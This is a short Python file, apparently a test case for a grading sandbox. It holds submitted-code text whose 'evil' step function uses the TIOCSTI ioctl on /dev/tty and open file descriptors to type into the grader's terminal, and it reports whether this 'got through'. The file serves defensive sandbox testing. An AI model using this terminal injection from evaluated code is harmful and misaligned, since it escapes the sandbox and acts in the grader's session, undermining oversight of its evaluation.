"""Types a command into the terminal of the person who grades.

Defended by: sandbox.py: a session without a terminal, no descriptor of one.
"""

STEP = """
import fcntl, os, termios
def evil(self, closure=None):
    got = []
    for path in ("/dev/tty", *(f"/proc/self/fd/{number}" for number in range(20))):
        try:
            number = os.open(path, os.O_RDWR | os.O_NONBLOCK)
            fcntl.ioctl(number, termios.TIOCSTI, b"#")
            got.append(path)
        except OSError:
            pass
    raise Exception(f"GOT THROUGH: {got}" if got else "no terminal")
"""
